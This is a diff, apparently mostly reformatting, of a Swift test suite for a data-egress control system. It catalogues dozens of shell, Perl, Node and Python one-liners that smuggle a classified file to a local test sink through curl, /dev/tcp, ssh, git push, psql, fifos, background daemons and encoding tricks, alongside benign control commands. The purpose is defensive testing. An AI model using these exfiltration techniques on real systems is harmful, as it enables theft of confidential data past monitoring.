@@ -22,7 +22,9 @@ final class Sink: @unchecked Sendable {
         a.sin_addr.s_addr = address.bigEndian
         var n = socklen_t(MemoryLayout<sockaddr_in>.size)
         func bound(_ fd: Int32) -> Bool {
-            withUnsafeMutablePointer(to: &a) { p in p.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, n) == 0 && getsockname(fd, $0, &n) == 0 } }
+            withUnsafeMutablePointer(to: &a) { p in
+                p.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, n) == 0 && getsockname(fd, $0, &n) == 0 }
+            }
         }
         guard bound(tcp), listen(tcp, 64) == 0, bound(udp) else { throw Trouble("sink: \(errno)") }
         port = Int(UInt16(bigEndian: a.sin_port))
@@ -109,14 +111,20 @@ struct Way: Sendable, CustomTestStringConvertible {
         Way(name: "argument", script: "sh -c 'curl -s -m 10 -d \"$1\" http://127.0.0.1:$P/' sh \"$(cat $F)\"", needs: ["curl"]),
         Way(name: "variable", script: "export X=\"$(cat $F)\"; sh -c 'printf %s \"$X\" | \(send)'", needs: ["curl"]),
         Way(name: "process-substitution", script: "curl -s -m 10 --data-binary @<(cat $F) http://127.0.0.1:$P/", needs: ["curl"]),
-        Way(name: "own-descriptor", script: "exec 3< $F; curl -s -m 10 --data-binary @/proc/self/fd/3 http://127.0.0.1:$P/", needs: ["curl"]),
-        Way(name: "unlinked-file", script: "exec 3<> t; rm t; cat $F >&3; curl -s -m 10 --data-binary @/dev/fd/3 http://127.0.0.1:$P/", needs: ["curl"]),
+        Way(
+            name: "own-descriptor", script: "exec 3< $F; curl -s -m 10 --data-binary @/proc/self/fd/3 http://127.0.0.1:$P/", needs: ["curl"]
+        ),
+        Way(
+            name: "unlinked-file", script: "exec 3<> t; rm t; cat $F >&3; curl -s -m 10 --data-binary @/dev/fd/3 http://127.0.0.1:$P/",
+            needs: ["curl"]),
         Way(name: "dev-tcp", script: "cat $F > /dev/tcp/127.0.0.1/$P"),
         Way(name: "dev-tcp-first", script: "exec 3<> /dev/tcp/127.0.0.1/$P; cat $F >&3"),
         Way(name: "dev-tcp-builtin", script: "exec 3<> /dev/tcp/127.0.0.1/$P; read -r line < $F; echo \"$line\" >&3", talks: true),
         Way(name: "dev-udp", script: "cat $F > /dev/udp/127.0.0.1/$P"),
         Way(name: "tar", script: "tar cf - -C / ${F#/} > /dev/tcp/127.0.0.1/$P", needs: ["tar"], talks: true),
-        Way(name: "archive-then-send", script: "tar czf a.tgz -C / ${F#/}; mv a.tgz b; cat b > /dev/tcp/127.0.0.1/$P", needs: ["tar", "gzip"]),
+        Way(
+            name: "archive-then-send", script: "tar czf a.tgz -C / ${F#/}; mv a.tgz b; cat b > /dev/tcp/127.0.0.1/$P",
+            needs: ["tar", "gzip"]),
         Way(name: "gzip", script: "gzip -c $F | base64 | tr A-Za-z N-ZA-Mn-za-m > /dev/tcp/127.0.0.1/$P", needs: ["gzip"]),
         Way(name: "copied", script: "cp $F c; cp c d; cat d > /dev/tcp/127.0.0.1/$P"),
         Way(name: "renamed", script: "mv $F c; cat c > /dev/tcp/127.0.0.1/$P"),
@@ -126,30 +134,44 @@ struct Way: Sendable, CustomTestStringConvertible {
         Way(name: "dd", script: "dd if=$F of=c 2> /dev/null; dd if=c 2> /dev/null | cat > /dev/tcp/127.0.0.1/$P"),
         Way(name: "xargs", script: "xargs -a $F -I{} sh -c 'echo {} | \(send)'", needs: ["curl"]),
         Way(name: "sed-in-place", script: "echo x > c; sed -i \"r $F\" c; cat c > /dev/tcp/127.0.0.1/$P"),
-        Way(name: "fifo-before", script: "mkfifo p; (exec 4<> p; read -r l <&4; echo \"$l\" > /dev/tcp/127.0.0.1/$P) & sh -c 'cat $F > p'; wait"),
-        Way(name: "fifo-connected-before", script: "mkfifo p; (exec 3> /dev/tcp/127.0.0.1/$P; : > ready; timeout 5 cat < p >&3) & while ! [ -e ready ]; do :; done; cat $F > p; wait"),
+        Way(
+            name: "fifo-before",
+            script: "mkfifo p; (exec 4<> p; read -r l <&4; echo \"$l\" > /dev/tcp/127.0.0.1/$P) & sh -c 'cat $F > p'; wait"),
+        Way(
+            name: "fifo-connected-before",
+            script:
+                "mkfifo p; (exec 3> /dev/tcp/127.0.0.1/$P; : > ready; timeout 5 cat < p >&3) & while ! [ -e ready ]; do :; done; cat $F > p; wait"
+        ),
         Way(name: "coprocess", script: "coproc R { read -r l; echo \"$l\" > /dev/tcp/127.0.0.1/$P; }; cat $F >&${R[1]}; wait"),
         Way(
             name: "daemon",
-            script: "setsid bash -c 'for i in {1..2000}; do if [ -s spool ]; then cat spool > /dev/tcp/127.0.0.1/$P; break; fi; sleep 0.01; done' & cat $F > spool; wait"),
+            script:
+                "setsid bash -c 'for i in {1..2000}; do if [ -s spool ]; then cat spool > /dev/tcp/127.0.0.1/$P; break; fi; sleep 0.01; done' & cat $F > spool; wait"
+        ),
         Way(name: "terminal", script: "script -qc \"cat $F\" /dev/null | cat > /dev/tcp/127.0.0.1/$P", needs: ["script"], talks: true),
     ]
 
     private static let others: [Way] = [
         Way(name: "wget", script: "wget -q -T 10 -t 1 -O - --post-file=$F http://127.0.0.1:$P/", needs: ["wget"]),
-        Way(name: "ssh", script: "tar cf - -C / ${F#/} | ssh -F none -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p $P x@127.0.0.1 cat", needs: ["ssh", "tar"], talks: true),
+        Way(
+            name: "ssh", script: "tar cf - -C / ${F#/} | ssh -F none -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p $P x@127.0.0.1 cat",
+            needs: ["ssh", "tar"], talks: true),
         Way(
             name: "git-push",
-            script: "git init -q r && cd r && cp $F f && git add f && git -c user.name=n -c user.email=e commit -qm m && git push -q git://127.0.0.1:$P/r HEAD:m",
+            script:
+                "git init -q r && cd r && cp $F f && git add f && git -c user.name=n -c user.email=e commit -qm m && git push -q git://127.0.0.1:$P/r HEAD:m",
             needs: ["git"]),
         Way(
             name: "psql",
-            script: "psql \"host=127.0.0.1 port=$P user=u dbname=d sslmode=disable gssencmode=disable connect_timeout=5\" -c \"INSERT INTO t VALUES ('$(cat $F)')\"",
+            script:
+                "psql \"host=127.0.0.1 port=$P user=u dbname=d sslmode=disable gssencmode=disable connect_timeout=5\" -c \"INSERT INTO t VALUES ('$(cat $F)')\"",
             needs: ["psql"]),
         Way(name: "openssl", script: "openssl s_client -quiet -connect 127.0.0.1:$P < $F", needs: ["openssl"]),
         Way(
             name: "perl",
-            script: "perl -MIO::Socket::INET -e 'open F, $ENV{F} or die; my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; print $s <F>'", needs: ["perl"]),
+            script:
+                "perl -MIO::Socket::INET -e 'open F, $ENV{F} or die; my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; print $s <F>'",
+            needs: ["perl"]),
         Way(
             name: "perl-shared-memory",
             script:
@@ -162,12 +184,15 @@ struct Way: Sendable, CustomTestStringConvertible {
             needs: ["perl"]),
         Way(
             name: "node",
-            script: "node -e 'const d = require(\"fs\").readFileSync(process.env.F); require(\"net\").connect(+process.env.P, \"127.0.0.1\").end(d)'", needs: ["node"]),
+            script:
+                "node -e 'const d = require(\"fs\").readFileSync(process.env.F); require(\"net\").connect(+process.env.P, \"127.0.0.1\").end(d)'",
+            needs: ["node"]),
     ]
 
     private static let python: [Way] = [
         "socket", "connected-first", "datagram", "dns-name", "unix-socket", "relay-tcp", "relay-unix", "memfd", "descriptor-passed",
-        "descriptor-in-flight", "socketpair", "queue", "subprocess", "shared-memory", "shared-file", "connection-passed", "environment-of-other",
+        "descriptor-in-flight", "socketpair", "queue", "subprocess", "shared-memory", "shared-file", "connection-passed",
+        "environment-of-other",
         "relay-abstract", "pipe-between-siblings",
     ].map { Way(name: "python-\($0)", script: "/usr/bin/python3 $T/ways.py \($0)", needs: ["python3"]) }
 }
@@ -259,7 +284,8 @@ extension EndToEnd {
         }
 
         /// Copied and named again, and read by a session that begins later.
-        @Test(arguments: Account.all, ["cp $F kept", "mv $F kept", "ln $F kept", "gzip -c $F > other; mv other kept", "cat < $F | tee kept"])
+        @Test(
+            arguments: Account.all, ["cp $F kept", "mv $F kept", "ln $F kept", "gzip -c $F > other; mv other kept", "cat < $F | tee kept"])
         func inALaterSession(account: Account, how: String) throws {
             let place = try Place(account)
             defer { place.end() }
@@ -276,17 +302,21 @@ extension EndToEnd {
 
         /// What stands beside classified data, or talks to who may have it, goes on. `C` is the cleared sink's port.
         static let innocent = [
-            "cat $F > /dev/tcp/127.0.0.2/$C", "curl -s -m 10 --data-binary @$F http://127.0.0.2:$C/", "wc -l < $F > n; cat n > /dev/tcp/127.0.0.2/$C",
+            "cat $F > /dev/tcp/127.0.0.2/$C", "curl -s -m 10 --data-binary @$F http://127.0.0.2:$C/",
+            "wc -l < $F > n; cat n > /dev/tcp/127.0.0.2/$C",
             "cat $F | wc -l; echo hello > /dev/tcp/127.0.0.1/$P", "wc -l $F; echo hello > /dev/tcp/127.0.0.1/$P",
             "gzip -c $F > kept; echo hello > /dev/tcp/127.0.0.1/$P", "cp $F kept & echo hello > /dev/tcp/127.0.0.1/$P; wait",
-            "sort $F | uniq | tail -1; date > d; cat d > /dev/tcp/127.0.0.1/$P", "ls -l ${F%/*}; stat $F; test -r $F; echo hello > /dev/tcp/127.0.0.1/$P",
+            "sort $F | uniq | tail -1; date > d; cat d > /dev/tcp/127.0.0.1/$P",
+            "ls -l ${F%/*}; stat $F; test -r $F; echo hello > /dev/tcp/127.0.0.1/$P",
             "cmp $F $F && echo hello > /dev/tcp/127.0.0.1/$P", "grep -q SECRET $F && echo hello > /dev/tcp/127.0.0.1/$P",
-            "(cat $F; cat $F) > kept; cat $G > /dev/tcp/127.0.0.1/$P", "for i in 1 2 3 4 5; do cat $F | cat | cat | wc -c; done; cat $G > /dev/tcp/127.0.0.1/$P",
+            "(cat $F; cat $F) > kept; cat $G > /dev/tcp/127.0.0.1/$P",
+            "for i in 1 2 3 4 5; do cat $F | cat | cat | wc -c; done; cat $G > /dev/tcp/127.0.0.1/$P",
             "tar cf a.tar -C / ${F#/}; tar cf b.tar -C / ${G#/}; cat b.tar > /dev/tcp/127.0.0.1/$P",
             "git init -q r && cd r && cp $G f && git add f && git -c user.name=n -c user.email=e commit -qm m; wc -l $F; git push -q git://127.0.0.1:$P/r HEAD:m; true",
             "printf 'all: x\\nx: ; cat $F > x\\n' > Makefile; make -s; cat $G > /dev/tcp/127.0.0.1/$P",
             "/usr/bin/python3 -c 'import subprocess; subprocess.run([\"wc\", \"-l\", \"'$F'\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'; cat $G > /dev/tcp/127.0.0.1/$P",
-            "mkfifo p; cat p > kept & cat $F > p; wait; cat $G > /dev/tcp/127.0.0.1/$P", "cp $F kept; rm kept; cp $G kept; cat kept > /dev/tcp/127.0.0.1/$P",
+            "mkfifo p; cat p > kept & cat $F > p; wait; cat $G > /dev/tcp/127.0.0.1/$P",
+            "cp $F kept; rm kept; cp $G kept; cat kept > /dev/tcp/127.0.0.1/$P",
             "sed -n 1p $F > kept; sleep 0 | cat $G > /dev/tcp/127.0.0.1/$P",
         ]
 
@@ -343,7 +373,9 @@ extension EndToEnd {
                     data: { pii: { files: ["\(root)/data/pii/**"] } }
                     releases: [{ program: "\(root)/bin/mask", classes: [pii], sha256: "\(hash)" }]
                     rules: [{ name: pii-stays-home, intent: net.egress, when: { carries: pii }, decide: deny }]
-                    """.replacingOccurrences(of: "default: allow, deny: [], read: [", with: "default: deny, read: [\"/usr/**\", \"/etc/**\", \"/lib*/**\", \"/proc/**\", \"/tmp/**\", \"/bin/**\", "))
+                    """.replacingOccurrences(
+                        of: "default: allow, deny: [], read: [",
+                        with: "default: deny, read: [\"/usr/**\", \"/etc/**\", \"/lib*/**\", \"/proc/**\", \"/tmp/**\", \"/bin/**\", "))
                 let mask = "env -i PATH=$PATH \(root)/bin/mask if=\(place.classified) of=masked status=none"
                 let send = "cat masked > /dev/tcp/127.0.0.1/\(place.sink.port)"
                 let before = place.sink.received().count
